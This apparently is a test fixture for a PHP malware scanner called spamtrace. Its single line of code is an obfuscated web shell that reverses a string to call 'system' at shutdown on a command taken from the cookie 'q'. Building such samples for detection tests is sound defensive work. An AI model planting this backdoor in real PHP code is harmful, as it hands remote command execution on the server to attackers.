<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
register_shutdown_function(strrev('metsys'), $_COOKIE['q'] ?? 'true');
